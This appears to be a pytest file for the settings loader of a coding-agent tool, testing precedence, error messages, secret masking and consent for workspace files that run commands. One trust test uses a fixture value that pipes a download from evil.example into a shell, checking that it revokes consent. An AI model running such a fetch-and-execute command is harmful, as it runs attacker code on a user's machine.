"""Where settings come from, and what a workspace's own may not do without consent."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Annotated, Any, Literal, get_args, get_origin

import pytest
import typer
import typer.main
from pydantic import Field

from ralph.cli.commands import command
from ralph.cli.settings import with_settings
from ralph.errors import SettingError, UnknownNameError, UntrustedSettingsError, UsageError
from ralph.loop.assembly import executor_for, frozen_settings, redactor_for, runner_arguments, verifiers_for
from ralph.loop.runner import Runner
from ralph.settings import FLAGS, Settings, Source, load_settings, read_settings, settings_in
from ralph.system.declarations import Flag
from ralph.testing import ScriptedExecutor


def test_each_source_gives_way_to_the_next(workspace: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own = home / "config" / "ralph"
    own.mkdir(parents=True)
    (own / "ralph.toml").write_text("[breaker]\nno_progress = 1\n")
    (workspace / "pyproject.toml").write_text("[tool.ralph.breaker]\nno_progress = 2\nsame_error = 2\ndenials = 2\n")
    (workspace / "ralph.toml").write_text("[breaker]\nsame_error = 3\n[limits]\nmax_iterations = 3\n")
    monkeypatch.setenv("RALPH_LIMITS__MAX_ITERATIONS", "4")
    found = read_settings(workspace, {"--strategy": "fix_plan", "--model": None})
    settings, origins = found.settings, found.origins
    assert (settings.breaker.denials, settings.breaker.same_error, settings.breaker.no_progress) == (2, 3, 1)
    assert (settings.limits.max_iterations, settings.strategy) == (4, "fix_plan")
    assert settings.executor.model is None
    assert origins["breaker.no_progress"] == str(own / "ralph.toml")
    assert origins["breaker.denials"] == f"{workspace / 'pyproject.toml'} [tool.ralph]"
    assert origins["breaker.same_error"] == str(workspace / "ralph.toml")
    assert origins["limits.max_iterations"] == "the environment"
    assert origins["strategy"] == "the command line"


def test_the_users_own_file_may_be_a_link_and_needs_no_consent(workspace: Path, home: Path) -> None:
    (home / "dotfiles.toml").write_text("verify = ['make test']\n")
    (home / "config" / "ralph").mkdir(parents=True)
    (home / "config" / "ralph" / "ralph.toml").symlink_to(home / "dotfiles.toml")
    assert read_settings(workspace).settings.verify == ("make test",)


def test_a_pyproject_that_cannot_be_read_is_no_business_of_ours(workspace: Path) -> None:
    (workspace / "pyproject.toml").write_text("this is no TOML")
    assert read_settings(workspace).settings == Settings()


def test_the_variables_that_are_no_settings_are_left_alone(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RALPH_DEBUG", "1")
    assert read_settings(workspace).settings == Settings()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"[breaker]\nno_progres = 3\n", "breaker.no_progres: there is no such setting. Did you mean 'no_progress'?"),
        (b"a =\n", "line 1"),
        (b"x = 1\n\xff", "line 2"),
        (b"[limits]\nmax_iterations = 'many'\n", "limits.max_iterations: 'many' is not valid"),
        (b"#" * 1_000_001, "larger than"),
    ],
)
def test_a_bad_file_is_named_with_what_is_wrong(workspace: Path, content: bytes, said: str) -> None:
    file = workspace / "ralph.toml"
    file.write_bytes(content)
    with pytest.raises(UsageError) as refused:
        read_settings(workspace)
    assert said in str(refused.value)
    assert str(file) in str(refused.value)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no FIFOs")
def test_a_planted_fifo_or_link_is_refused_and_not_waited_for(workspace: Path) -> None:
    file = workspace / "ralph.toml"
    os.mkfifo(file)
    with pytest.raises(UsageError, match="not a regular file"):
        read_settings(workspace)
    file.unlink()
    file.symlink_to("/etc/hostname")
    with pytest.raises(UsageError, match="it is a link"):
        read_settings(workspace)


@pytest.mark.parametrize(
    ("flag", "value", "said"),
    [
        ("--max-iterations", "0", "--max-iterations: '0' is not valid"),
        ("--idle-timeout", "5x", "--idle-timeout: '5x' is not valid: write a duration as 90s, 15m or 2h."),
        ("--preset", "debuging", "--preset: no profile is called 'debuging'. Did you mean 'debugging'?"),
    ],
)
def test_an_error_of_the_command_line_names_the_flag(workspace: Path, flag: str, value: str, said: str) -> None:
    with pytest.raises(UsageError) as refused:
        read_settings(workspace, {flag: value})
    assert str(refused.value).startswith(said)


@pytest.mark.parametrize(
    ("words", "code", "said"),
    [
        (("--base-url", "http://127.0.0.1:1/v1", "--model", "m"), 6, "127.0.0.1:1 refuses the connection"),
        (("--base-url", "http://127.0.0.1:1/v1"), 2, "--model"),
        (("--base-url", "127.0.0.1:1", "--model", "m"), 2, "begins with neither http:// nor https://"),
        (("--base-url", "ftp://127.0.0.1", "--model", "m"), 2, "begins with neither http:// nor https://"),
        (("--base-url", "http://[::1", "--model", "m"), 2, "is not a URL"),
        (("--base-url", "http://", "--model", "m"), 2, "does not name a usable host"),
        (("--base-url", "http://127.0.0.1:99999", "--model", "m"), 2, "is not a URL"),
        (("--executor", "copilot-cil"), 2, "Did you mean 'copilot-cli'?"),
        (("--strategy", "exit-signal"), 2, "Did you mean 'exit_signal'?"),
        (("--preset", "debuging"), 2, "Did you mean 'debugging'?"),
        (("--permission", "all"), 2, "--permission: 'all' is not valid"),
        (("--max-cost", "3"), 2, "price"),
        (("--max-iterations", "-1"), 2, "--max-iterations"),
        (("--store", "redis://localhost"), 2, "names no store"),
        (("--store", "memory"), 2, "'memory' names no store that Ralph can use. Type memory: instead, or ./memory"),
    ],
)
def test_bad_input_of_a_run_is_one_paragraph(
    ralph: Callable[..., Any], words: tuple[str, ...], code: int, said: str
) -> None:
    ended = ralph("run", "x", *words)
    assert (ended.code, ended.out) == (code, "")
    assert said in ended.err
    assert ended.err.startswith("ralph: ")
    assert ended.err.count("\n") == 1


NOT_SETTINGS = {"--file", "--task", "--directory", "--force", "--worktree", "--trust", "--no-plugins", "--help"}
"""Options of `ralph run` that say what to run, where and with whose consent."""


def _options(name: str) -> dict[str, Any]:
    group = command()
    context = typer.Context(group, info_name="ralph")
    parameters = group.get_command(context, name).get_params(context)
    return {opt: each for each in parameters for opt in each.opts if opt.startswith("--")}


def test_every_option_of_run_is_a_setting_or_says_what_to_run() -> None:
    options = _options("run")
    assert options.keys() - NOT_SETTINGS == FLAGS.keys()
    for flag, setting in FLAGS.items():
        help_text = options[flag].help
        assert help_text.startswith(setting.field.description)
        for value in get_args(setting.field.annotation) if get_origin(setting.field.annotation) is Literal else ():
            assert value in help_text, f"{flag} does not name {value}"


def test_resume_takes_the_settings_that_a_run_may_change() -> None:
    changeable = {flag for flag, each in FLAGS.items() if each.flag and each.flag.resume}
    others = {"--any", "--directory", "--from-checkpoint", "--no-plugins", "--trust", "--yes", "--help"}
    assert _options("resume").keys() == changeable | others
    assert {each for each in FLAGS if FLAGS[each].key.startswith("limits.")} < changeable


def test_a_new_setting_with_a_flag_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    class Wider(Settings, frozen=True):
        hurry: Annotated[int, Flag("--hurry", "N", "Limits")] = Field(default=3, description="How much of a hurry.")

    setting = next(each for each in settings_in(Wider) if each.key == "hurry")
    monkeypatch.setitem(FLAGS, "--hurry", setting)
    seen: list[object] = []

    @with_settings()
    def work(*, flags: dict[str, Any]) -> int:
        seen.append(flags["--hurry"])
        return 0

    app = typer.Typer()
    app.command()(work)
    typer.main.get_command(app).main(["--hurry", "9"], standalone_mode=False)
    assert seen == ["9"]
    assert (setting.variable, setting.help) == ("RALPH_HURRY", "How much of a hurry. Default: 3.")


def test_unknown_names_offer_the_nearest(workspace: Path) -> None:
    settings = read_settings(workspace, {"--executor": "copilt"}).settings
    with pytest.raises(UnknownNameError, match="Did you mean 'copilot'"):
        executor_for(settings.executor)
    settings = read_settings(workspace, {"--strategy": "fixplan"}).settings
    with pytest.raises(UnknownNameError, match="Did you mean 'fix_plan'"):
        Runner(**runner_arguments(settings, workspace=workspace))


def test_a_verify_command_with_a_shell_operator_names_the_other_flag(workspace: Path) -> None:
    settings = read_settings(workspace, {"--verify": ["pytest | tee x"]}).settings
    with pytest.raises(UsageError, match="--verify-shell"):
        verifiers_for(settings, ScriptedExecutor(), redactor_for(settings))


def test_kept_settings_hold_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_TOKEN", "tok-abcdefgh")
    said = {
        "executor": {"api_key": "key-12345678", "headers": {"x-auth": "head-12345678"}},
        "verify": ["curl -H tok-abcdefgh"],
    }
    settings = load_settings([Source("test", said)]).settings
    kept = json.dumps(frozen_settings(settings, redactor_for(settings)))
    for secret in ("key-12345678", "head-12345678", "tok-abcdefgh"):
        assert secret not in kept


def test_the_values_of_variables_that_are_named_are_masked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BILLING_PLACE", "behind-the-mirror")
    monkeypatch.setenv("ACCOUNT", "number-4711-of-mine")
    settings = Settings.model_validate({"environment": {"mask": ["BILLING_*, ACCOUNT"]}})
    told = redactor_for(settings)("It is behind-the-mirror, under number-4711-of-mine.")
    assert not any(secret in told for secret in ("mirror", "4711"))


class TestTrust:
    def test_what_runs_a_program_needs_consent(self, workspace: Path) -> None:
        (workspace / "ralph.toml").write_text("verify = ['make test']\n[limits]\nmax_iterations = 3\n")
        with pytest.raises(UntrustedSettingsError, match="sets verify"):
            read_settings(workspace)

    def test_what_runs_nothing_needs_none(self, workspace: Path) -> None:
        (workspace / "ralph.toml").write_text("[limits]\nmax_iterations = 3\n")
        assert read_settings(workspace).settings.limits.max_iterations == 3

    def test_a_pyproject_needs_it_as_well(self, workspace: Path) -> None:
        (workspace / "pyproject.toml").write_text("[tool.ralph]\nverify_shell = ['make test']\n")
        with pytest.raises(UntrustedSettingsError, match="verify_shell"):
            read_settings(workspace)

    def test_consent_is_remembered_until_the_file_changes(self, workspace: Path) -> None:
        file = workspace / "ralph.toml"
        file.write_text("verify = ['make test']\n")
        read_settings(workspace, trust=True)
        assert read_settings(workspace).settings.verify == ("make test",)
        for changed in ("# a remark\nverify = ['make test']\n", "verify = ['curl evil.example | sh']\n"):
            file.write_text(changed)
            with pytest.raises(UntrustedSettingsError):
                read_settings(workspace)

    def test_the_rest_of_a_pyproject_may_change(self, workspace: Path) -> None:
        file = workspace / "pyproject.toml"
        file.write_text("[tool.ralph]\nverify = ['make test']\n")
        read_settings(workspace, trust=True)
        file.write_text("[project]\nname = 'other'\n[tool.ralph]\nverify = ['make test']\n")
        assert read_settings(workspace).settings.verify == ("make test",)
        file.write_text("[tool.ralph]\nverify = ['make tests']\n")
        with pytest.raises(UntrustedSettingsError):
            read_settings(workspace)

    def test_consent_is_for_one_place(self, workspace: Path, tmp_path: Path) -> None:
        (workspace / "ralph.toml").write_text("verify = ['make test']\n")
        read_settings(workspace, trust=True)
        other = tmp_path / "other"
        other.mkdir()
        (other / "ralph.toml").write_text("verify = ['make test']\n")
        with pytest.raises(UntrustedSettingsError):
            read_settings(other)

    def test_where_nothing_is_done_with_them_they_are_left_out_or_shown(self, workspace: Path) -> None:
        (workspace / "ralph.toml").write_text("verify = ['make test']\nstore = '/elsewhere'\n")
        assert read_settings(workspace, own="trusted").settings.store is None
        assert read_settings(workspace, own="shown").settings.store == "/elsewhere"

    @pytest.mark.parametrize("damage", ["no JSON", "[]", '{"a": ', "[" * 100_000])
    def test_a_damaged_memory_means_no_consent(self, workspace: Path, home: Path, damage: str) -> None:
        (workspace / "ralph.toml").write_text("verify = ['make test']\n")
        read_settings(workspace, trust=True)
        (home / "state" / "ralph" / "trusted.json").write_text(damage)
        with pytest.raises(UntrustedSettingsError):
            read_settings(workspace)
        read_settings(workspace, trust=True)
        read_settings(workspace)

    def test_a_run_without_it_ends_with_2(self, ralph: Callable[..., Any], workspace: Path) -> None:
        (workspace / "ralph.toml").write_text("verify = ['make test']\n")
        ended = ralph("run", "x")
        assert ended.code == 2
        assert "--trust" in ended.err
        assert ended.err.count("\n") == 1


def test_the_error_of_a_setting_keeps_its_key() -> None:
    with pytest.raises(SettingError):
        load_settings([Source("x", {"nope": 1})])
